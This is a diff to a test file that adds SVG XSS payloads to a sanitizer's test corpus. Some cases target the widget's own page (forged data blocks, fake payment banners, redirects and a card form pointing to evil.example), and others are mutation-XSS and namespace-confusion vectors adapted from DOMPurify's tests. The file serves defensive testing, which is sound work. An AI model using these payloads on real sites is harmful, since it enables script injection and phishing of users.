@@ -489,6 +489,240 @@ const BOX: XssCase[] = [
   c('huge shape (must stay clipped)', HUGE),
 ];
 
+/** A view of another project, as a plan would forge the widget's inlined data. */
+const FORGED_VIEW = JSON.stringify({
+  etag: '"forged"',
+  view: {
+    project: { id: 999999, name: 'Forged project' },
+    plans: [],
+    apartments: [{ id: 1, bostad: '1', price: 1, status: 'sale', link: 'https://pay.example/' }],
+    styles: [],
+  },
+}).replace(/&/g, '&amp;');
+
+/**
+ * Every id the widget's page uses (its data block, stylesheet, render-blocking link, labels'
+ * targets, dialogs' titles), the browser test's own probes, and names a script reads from window.
+ */
+const PAGE_IDS = [
+  'pv-data',
+  'pv-page-css',
+  'pv-plan-end',
+  'pv-list-title',
+  'pv-panel-title',
+  'pv-cmp-title',
+  'pv-sort',
+  'pv-f-priceMin',
+  'pv-f-rooms',
+  'pv-f-building',
+  'pv-sun-title',
+  'pv-sun-hint',
+  'root',
+  'xss-probes',
+  'dataLayer',
+];
+
+/**
+ * The page that inlines a plan (issue 19's review): ids that the page's own elements have, and
+ * HTML that the HTML parser reads where XML saw SVG (`<title>`, `<desc>`), CDATA, `<` in an SVG
+ * style (not raw text in HTML), tags that end foreign content, case folding and namespaces.
+ */
+const PAGE: XssCase[] = [
+  c('pv-data id on a desc (a forged view)', `<desc id="pv-data">${FORGED_VIEW}</desc>${ZONE}`),
+  c('pv-data id on a text (a forged view)', `<text id="pv-data" x="5" y="50">${FORGED_VIEW}</text>`),
+  c(
+    'pv-data id on a group holding the forged view',
+    `<g id="pv-data"><title>${FORGED_VIEW}</title>${ZONE}</g>`,
+  ),
+  c('every id of the widget page', PAGE_IDS.map((id) => `<rect id="${id}" width="5" height="5"/>`).join('')),
+  c(
+    'every id of the widget page on a desc, a title and a text',
+    PAGE_IDS.map((id) => `<desc id="${id}">x</desc>`).join('') +
+      '<title id="pv-panel-title">Pay at pay.example</title><text id="pv-list-title">Pay at pay.example</text>',
+  ),
+  c(
+    'references to page elements by id',
+    '<use href="#root"/><use xlink:href="#xss-probes"/><a href="#pv-list-title"><rect fill="url(#pv-page-css)" width="50" height="50" aria-labelledby="pv-panel-title pv-list-title"/></a>',
+  ),
+  css(
+    '#id selectors of page ids',
+    '#root,#pv-data,#xss-probes,#pv-list-title,#pv-plan-end{display:none;fill:red}',
+  ),
+  c(
+    'style inside desc restyling the page (a fake payment banner)',
+    '<desc><style>div,ul,table,section,header{display:none!important}body::before{content:"Pay the deposit at pay.example";position:fixed;inset:0;z-index:99999;background:red}</style></desc>' +
+      ZONE,
+  ),
+  c(
+    'style inside title',
+    '<title><style>*{color:red!important;background:red!important}</style></title>' + ZONE,
+  ),
+  c(
+    'self-closed a in desc swallowing the page',
+    `<desc><a/></desc>${ZONE}<style>div,section,ul{display:none}</style>`,
+  ),
+  c(
+    'self-closed g in title swallowing the page',
+    `<title><g/></title>${ZONE}<text x="5" y="50">after</text>`,
+  ),
+  c('self-closed a in title, then a style', '<title><a/></title><style>div,p,button{display:none}</style>'),
+  c('HTML image with a handler in desc', '<desc><img src="x" onerror="alert(1)"/></desc>'),
+  c(
+    'HTML base and meta refresh in desc',
+    '<desc><base href="https://evil.example/"/><meta http-equiv="refresh" content="0;url=https://evil.example/"/></desc>',
+  ),
+  c(
+    'HTML form in title',
+    '<title><form action="https://evil.example/"><input name="card" autofocus=""/></form></title>',
+  ),
+  c(
+    'HTML link stylesheet in desc',
+    '<desc><link rel="stylesheet" href="https://evil.example/x.css"/></desc>',
+  ),
+  c(
+    'CDATA in desc holding markup',
+    '<desc><![CDATA[<style>body{display:none}</style><img src=x onerror=alert(1)>]]></desc>',
+  ),
+  c(
+    'CDATA in a style holding an end tag',
+    `<style><![CDATA[</style><style>body{display:none}</style>]]></style>${ZONE}`,
+  ),
+  c(
+    '< in an SVG style (not raw text in HTML)',
+    `<style>[title="&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;"]{fill:blue}rect{fill:blue}&lt;/svg&gt;&lt;style&gt;body{display:none}&lt;/style&gt;</style>${ZONE}`,
+  ),
+  c(
+    'tags that end SVG in HTML',
+    '<p>p</p><b>b</b><font color="red">f</font><table><tr><td>t</td></tr></table><div style="position:fixed;inset:0;background:red">d</div><br/>',
+  ),
+  c(
+    'a tag that ends SVG inside a text',
+    '<text x="5" y="50"><p style="position:fixed;inset:0;background:red">x</p><span>s</span></text>',
+  ),
+  c('upper-case DESC and STYLE', '<DESC><STYLE>body{display:none}</STYLE></DESC><TITLE><A/></TITLE>' + ZONE),
+  c(
+    'attribute names HTML folds to lower case',
+    '<rect VIEWBOX="0 0 1 1" Width="100" ONCLICK="alert(1)" height="9" STYLE="position:fixed;inset:0"/>',
+  ),
+  c('script under an XHTML prefix', `<x:script xmlns:x="${XHTML}">alert(1)</x:script>`),
+  c('desc in the XHTML namespace', `<desc xmlns="${XHTML}"><style>body{display:none}</style></desc>`),
+  c(
+    'nested svg redeclaring XHTML',
+    `<svg xmlns="${XHTML}"><style>body{display:none}</style><script>alert(1)</script></svg>`,
+  ),
+  c(
+    'SVG elements under a prefix',
+    '<s:desc xmlns:s="http://www.w3.org/2000/svg"><s:style>body{display:none}</s:style><s:a/></s:desc>',
+  ),
+  c(
+    'xmlns:xlink rebound to XHTML',
+    `<g xmlns:xlink="${XHTML}"><a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a></g>`,
+  ),
+  c(
+    'MathML annotation-xml as an HTML integration point',
+    '<math><annotation-xml encoding="text/html"><style>body{display:none}</style></annotation-xml></math>',
+  ),
+];
+
+/**
+ * SVG vectors of DOMPurify's test suite (cure53/DOMPurify, test/fixtures/expect.mjs, release
+ * 3.4.14): mutation XSS through <style>/<title>/<desc>, namespace confusion, animations of
+ * links, references to other documents. Rewritten as whole plan documents: the HTML around the
+ * <svg> goes, and markup that only an HTML parser would have read as such is written as text.
+ */
+const DOMPURIFY: XssCase[] = [
+  c(
+    'mXSS: an element in a style whose attribute ends the style',
+    '<style><g title="&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;"/></style>',
+  ),
+  c(
+    'mXSS: a style in a title that ends the title',
+    '<title><style>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</style></title>',
+  ),
+  c(
+    'mXSS: an id in a title that ends the title',
+    '<title><a id="&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;"/></title>',
+  ),
+  c(
+    'mXSS: a template in a title',
+    '<title><template><style>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</style></template></title>',
+  ),
+  c(
+    'mXSS: a comment in a style in a title',
+    '<title><style>&lt;!--&lt;/style&gt;&lt;img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"&gt;</style></title>',
+  ),
+  c(
+    'namespace confusion: noscript in desc',
+    '<desc><noscript>&lt;/noscript&gt;&lt;/desc&gt;&lt;s&gt;&lt;/s&gt;&lt;style&gt;&lt;a title="&lt;/style&gt;&lt;img src onerror=alert(1)&gt;"&gt;</noscript></desc>',
+  ),
+  c(
+    'namespace confusion: mglyph in MathML',
+    '<math><mtext><table><mglyph><style>&lt;img src=x onerror=alert(1)&gt;</style></mglyph></table></mtext></math>',
+  ),
+  c(
+    'mXSS: foreignObject, p and style',
+    `<foreignObject><p xmlns="${XHTML}"><style><p title="&lt;/style&gt;&lt;iframe onload=alert(1)&lt;!--"/></style></p></foreignObject>`,
+  ),
+  c(
+    'CDATA hiding an image tag',
+    '<text><![CDATA[><image xlink:href="]]>&lt;img src=x onerror=alert(2)//"&gt;</text>',
+  ),
+  c('style text holding an image tag', '<style>&lt;img/src=x onerror=alert(1)// &lt;/b&gt;</style>'),
+  c(
+    'filter of an SVG data: document in a style attribute',
+    '<image style="filter:url(&quot;data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22&gt;&lt;script&gt;parent.alert(1)&lt;/script&gt;&lt;/svg&gt;&quot;)" width="9" height="9"/>',
+  ),
+  c(
+    'clip-path, fill, filter, marker, mask and stroke from another file',
+    '<a id="x"><rect fill="white" width="1000" height="1000"/></a><rect fill="white" width="99" height="99" style="clip-path:url(https://evil.example/test3.svg#a);fill:url(#b);filter:url(#c);marker:url(#d);mask:url(#e);stroke:url(#f)"/>',
+  ),
+  c(
+    'marker-start from another file',
+    '<path d="M0,0L9 9" style="marker-start:url(https://evil.example/test4.svg#a)"/>',
+  ),
+  c(
+    'feImage set to an SVG data: document',
+    '<filter id="f"><feImage><set attributeName="xlink:href" to="data:image/svg+xml;charset=utf-8;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4="/></feImage></filter>',
+  ),
+  c(
+    'link animated from javascript:',
+    '<a xlink:href="?"><circle r="400"/><animate attributeName="xlink:href" begin="0" from="javascript:alert(1)" to="&amp;"/></a>',
+  ),
+  c(
+    'image animated to a leaking URL on a key press',
+    '<image><set attributeName="xlink:href" begin="accessKey(a)" to="//evil.example/?a"/></image>',
+  ),
+  c(
+    'XML Events observer with a data: handler',
+    '<x xmlns="http://www.w3.org/2001/xml-events" event="load" observer="root" handler="data:image/svg+xml,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E%3C%2Fsvg%3E#x"/>',
+    ' id="root"',
+  ),
+  doc(
+    'xml-stylesheet of an XSLT inside the file',
+    `<?xml version="1.0"?><?xml-stylesheet type="text/xml" href="#stylesheet"?>${wrap('<xsl:stylesheet id="stylesheet" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></xsl:template></xsl:stylesheet>')}`,
+  ),
+  c(
+    'DOM clobbering by name',
+    '<image name="body"/><image name="activeElement"/><image name="adoptNode"/><svg onload="alert(1)"/>',
+  ),
+  c(
+    'SVG data: image with an onload inside',
+    '<image width="50" height="50" xlink:href="data:image/svg+xml;utf8,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%20onload%3D%22alert(1)%22%2F%3E"/>',
+  ),
+  c(
+    'HTML style under a prefix, then an XLink',
+    `<g xmlns:html="${XHTML}"><html:style/><g xlink:href="javascript:alert(1)" xlink:type="simple">XXX</g></g>`,
+  ),
+  c(
+    'unknown element with xlink:actuate',
+    '<x xlink:actuate="onLoad" xlink:href="javascript:alert(1)" xlink:type="simple"/>',
+  ),
+  c(
+    'set and animate on handler attributes',
+    '<set attributeName="onmouseover" to="alert(1)"/><animate attributeName="onunload" to="alert(1)"/>',
+  ),
+];
+
 /** Every payload; see the groups above. */
 export const XSS_CORPUS: readonly XssCase[] = [
   ...SCRIPT,
@@ -501,4 +735,6 @@ export const XSS_CORPUS: readonly XssCase[] = [
   ...CSS_FETCH,
   ...CSS_SCOPE,
   ...BOX,
+  ...PAGE,
+  ...DOMPURIFY,
 ];
